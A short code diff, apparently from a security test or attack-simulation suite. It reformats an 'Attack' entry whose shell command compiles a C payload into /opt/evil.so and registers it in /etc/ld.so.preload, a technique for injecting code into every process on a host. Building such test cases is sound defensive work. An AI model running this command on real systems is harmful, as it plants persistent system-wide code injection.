@@ -8,6 +8,7 @@ from attacks.preloads import EVIL_C
 
 ATTACK = Attack(
     "shell",
-    f"cat > evil.c <<'EOF'\n{EVIL_C}\nEOF\ngcc -shared -fPIC -o /opt/evil.so evil.c && echo /opt/evil.so > /etc/ld.so.preload",
+    f"cat > evil.c <<'EOF'\n{EVIL_C}\nEOF\n"
+    "gcc -shared -fPIC -o /opt/evil.so evil.c && echo /opt/evil.so > /etc/ld.so.preload",
     tampers="/etc/ld.so.preload",
 )
